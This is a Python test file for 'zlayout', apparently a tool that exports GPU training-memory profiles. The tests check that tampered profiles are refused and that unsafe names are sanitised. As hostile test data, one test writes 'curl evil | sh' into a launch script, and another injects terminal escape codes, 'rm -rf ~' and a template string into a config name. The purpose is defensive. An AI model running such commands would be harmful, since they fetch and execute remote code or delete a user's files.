"""What a team acts on cannot be hand-edited into a lie: [summary], [alerts] and the verification
status are recomputed on load and a disagreement is refused naming the key; a profile.toml without
its [manifest] is refused; profile.toml and the launch scripts agree on script, port and nodes."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from zlayout.cli import main
from zlayout.profile import load_profile, save_profile_dir
from zlayout.profile.build import attach_verification
from zlayout.profile.schema import VALIDATED_TOLERANCE_FRACTION

TINY = ["export", "--layers", "2", "--hidden", "128", "--heads", "4", "--vocab", "1000", "--seq", "64",
        "--gpus-per-node", "2", "--gpu", "h200", "--stage", "2", "--host-ram-gib", "64"]


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture
def exported(tmp_path, capsys) -> Path:
    out = tmp_path / "p"
    assert run(capsys, *TINY, "--out", str(out))[0] == 0
    return out


def _edit(directory: Path, pattern: str, replacement: str) -> None:
    path = directory / "profile.toml"
    text, count = re.subn(pattern, replacement, path.read_text(), count=1, flags=re.M)
    assert count == 1, pattern
    path.write_text(text)


def _refused(capsys, directory: Path, key: str) -> None:
    for command in ("show", "check", "verify"):
        argv = [command, str(directory)] + (["--preflight-only"] if command == "verify" else [])
        code, out, err = run(capsys, *argv)
        assert code == 2 and key in err and err.startswith("zlayout: error: ") and err.count("\n") == 1, \
            (command, out, err)


@pytest.mark.parametrize("pattern, replacement, key", [
    (r"^warn_above_bytes = \d+", "warn_above_bytes = 1000", "alerts.host_memory.warn_above_bytes"),
    (r"(\[alerts\.host_memory\]\nbasis = \"predicted\"\npeak_bytes = )\d+", r"\g<1>1000",
     "alerts.host_memory.peak_bytes"),
    (r"^warn_device_used_above_bytes = \d+", "warn_device_used_above_bytes = 5",
     "alerts.gpu_memory.warn_device_used_above_bytes"),
    (r"^warn_above_s = .*", "warn_above_s = 99.0", "alerts.step_time.warn_above_s"),
    (r"^gpu_peak_allocated_gib = .*", "gpu_peak_allocated_gib = 1.0", "summary.gpu_peak_allocated_gib"),
    (r"^fits = true", "fits = false", "summary.fits"),
    (r"^max_micro_batch = (\d+)", "max_micro_batch = 7", "limits.max_micro_batch"),
    (r"(\[limits\]\nscaling = \"depth\"\nmax_params = )\d+", r"\g<1>1000000000000", "limits.max_params"),
])
def test_a_hand_edited_threshold_or_summary_figure_is_refused_naming_the_key(exported, capsys, pattern,
                                                                           replacement, key):
    assert run(capsys, "show", str(exported))[0] == 0
    _edit(exported, pattern, replacement)
    _refused(capsys, exported, key)


def test_validated_without_a_measurement_is_refused(exported, capsys):
    _edit(exported, r'^status = "unverified"', 'status = "validated"')
    _refused(capsys, exported, "verification.status is 'validated'")


def test_a_status_the_measurement_does_not_give_is_refused(exported, capsys, make_verify_result):
    profile = load_profile(exported)
    off = 1 / (1 + VALIDATED_TOLERANCE_FRACTION * 2)  # the measured peak 20% below: a mismatch
    save_profile_dir(attach_verification(profile, make_verify_result(profile, status="mismatch", scale=off)),
                     exported)
    assert run(capsys, "show", str(exported))[0] == 0
    _edit(exported, r'^status = "mismatch"', 'status = "validated"')
    _refused(capsys, exported, "which is 'mismatch'")


def test_the_tolerance_is_verifys():
    from zlayout.verify.result import TOLERANCE_FRACTION

    assert VALIDATED_TOLERANCE_FRACTION == TOLERANCE_FRACTION


def test_a_profile_toml_without_its_manifest_is_refused(exported, capsys):
    path = exported / "profile.toml"
    text = path.read_text()
    start = text.index("[manifest]")
    end = text.index("\n[", start + 1)
    path.write_text(text[:start] + text[end + 1:])
    (exported / "launch_deepspeed.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    _refused(capsys, exported, "[manifest] is missing")


@pytest.mark.parametrize("pattern, replacement, key", [
    (r"^master_port = 29500", "master_port = 29611", "run.master_port is 29611"),
    (r'^train_script = "train.py"', 'train_script = "other.py"', "run.train_script is 'other.py'"),
])
def test_run_settings_edited_away_from_the_scripts_are_refused(exported, capsys, pattern, replacement, key):
    _edit(exported, pattern, replacement)
    _refused(capsys, exported, key)


def test_an_input_edit_stays_a_stale_prediction_with_its_alerts_recomputed(exported, capsys):
    # an edited input is a what-if: show says STALE and shows what the inputs give; check
    # compares the host with the host peak the inputs give, not the stored one
    _edit(exported, r"^layers = 2$", "layers = 40")
    code, out, _ = run(capsys, "show", str(exported))
    assert code == 0 and out.startswith("STALE PREDICTION")
    from zlayout.profile.integrity import open_checked

    checked = open_checked(exported)
    current, stored = checked.current, checked.profile
    assert current.alerts.host_memory.peak_bytes == current.prediction.host_peak_bytes
    assert current.alerts.gpu_memory.peak_allocated_bytes == current.prediction.gpu_peak_allocated_bytes
    assert current.alerts.gpu_memory.peak_allocated_bytes > stored.alerts.gpu_memory.peak_allocated_bytes


# ---------------------------------------------------------------- --hf-config travels with the profile

def test_hf_config_travels_as_a_hashed_copy_never_a_path(tmp_path, capsys):
    model = tmp_path / "models" / "mine"
    model.mkdir(parents=True)
    config = {"model_type": "llama", "_name_or_path": "org/mine", "hidden_size": 256, "num_hidden_layers": 2,
              "num_attention_heads": 4, "num_key_value_heads": 4, "intermediate_size": 512, "vocab_size": 1000}
    import json

    (model / "config.json").write_text(json.dumps(config))
    out = tmp_path / "p"
    assert run(capsys, "export", "--hf-config", str(model), "--seq", "64", "--gpu", "h200", "--stage", "2",
               "--out", str(out))[0] == 0
    text = (out / "profile.toml").read_text()
    assert str(tmp_path) not in text and 'hf_config = "hf_config.json"' in text
    assert (out / "hf_config.json").read_bytes() == (model / "config.json").read_bytes()
    assert "hf_config.json" in load_profile(out).manifest
    code, out_text, _ = run(capsys, "show", str(out))
    assert code == 0 and "hf_config.json" in out_text.splitlines()[-1]
    # the copy edited: refused like any file of the set
    (out / "hf_config.json").write_text(json.dumps({**config, "num_hidden_layers": 80}))
    _refused(capsys, out, "hf_config.json")


# ---------------------------------------------------------------- host RAM says where it came from

def test_host_ram_says_whether_it_was_given_or_assumed(tmp_path, capsys):
    assumed, given = tmp_path / "assumed", tmp_path / "given"
    argv = TINY[:-2]  # without --host-ram-gib 64
    code, _, err = run(capsys, *argv, "--out", str(assumed))
    assert code == 0 and "no --host-ram-gib" in err
    assert run(capsys, *TINY, "--out", str(given))[0] == 0
    assert load_profile(assumed).host_ram_source == "assumed" and load_profile(given).host_ram_source == "given"
    runbook = (assumed / "RUNBOOK.md").read_text()
    assert "2048 GiB (assumed: zlayout's default, not given at export with --host-ram-gib)" in runbook
    assert "2048 GiB per node" not in runbook.replace("(assumed", "")  # never the bare default
    assert "64.0 GiB (given at export)" in (given / "RUNBOOK.md").read_text()
    assert "(assumed: zlayout's default" in run(capsys, "show", str(assumed))[1]


def test_check_compares_the_nodes_ram_with_the_profiles(profile_8b):
    from zlayout.profile.check import check_host

    peak = profile_8b.alerts.host_memory.peak_bytes
    node = {"MemAvailable": peak * 2, "MemTotal": peak * 3}  # enough for the run, far below 2 TiB
    item = check_host(profile_8b, node)
    assert item.verdict == "warn" and "assumed (not given at export)" in item.detail
    assert f"--host-ram-gib {peak * 3 / 2**30:.0f}" in item.detail
    roomy = {"MemAvailable": peak * 2, "MemTotal": profile_8b.inputs.hardware.host_ram_bytes}
    assert check_host(profile_8b, roomy).verdict == "pass"


def test_a_config_name_with_escape_codes_and_newlines_reaches_no_terminal_raw(tmp_path, capsys):
    import json

    import yaml

    model = tmp_path / "m"
    model.mkdir()
    (model / "config.json").write_text(json.dumps({
        "model_type": "llama", "_name_or_path": "org/evil\u001b[2J\u001b]0;pwned\u0007\nrm -rf ~ {{ $value }}",
        "hidden_size": 256, "num_hidden_layers": 2, "num_attention_heads": 4, "num_key_value_heads": 4,
        "intermediate_size": 512, "vocab_size": 1000}))
    code, out, err = run(capsys, "plan", "--hf-config", str(model), "--seq", "64", "--gpu", "h200", "--stage", "2")
    assert code == 0 and "\x1b" not in out + err and "\x07" not in out + err
    assert "evil [2J ]0;pwned rm -rf ~ {{ $value }}" in out
    directory = tmp_path / "p"
    code, out, err = run(capsys, "export", "--hf-config", str(model), "--seq", "64", "--gpu", "h200", "--stage", "2",
                         "--out", str(directory))
    assert code == 0 and "\x1b" not in out + err
    code, out, _ = run(capsys, "show", str(directory))
    assert code == 0 and "\x1b" not in out and "\x07" not in out
    rules = yaml.safe_load((directory / "alerts.yml").read_text())["groups"][0]["rules"]
    # Prometheus expands {{ }} in labels: the name's is written as a template literal
    assert rules[0]["labels"]["profile"].startswith('evil [2J ]0;pwned rm -rf ~ {{ "{{" }} $value }}')


def test_a_figure_edited_into_text_is_a_difference_not_a_crash():
    """A derived figure hand-edited into a string (hypothesis found '[' where a float was) is not
    the figure: the comparison says so instead of raising TypeError out of `zlayout show`."""
    from zlayout.profile.integrity import _same

    assert _same(6.0, 6.0 + 1e-12) and not _same(6.0, "[") and not _same("[", 6.0)
    assert not _same(6.0, None) and _same(3, 3.0)
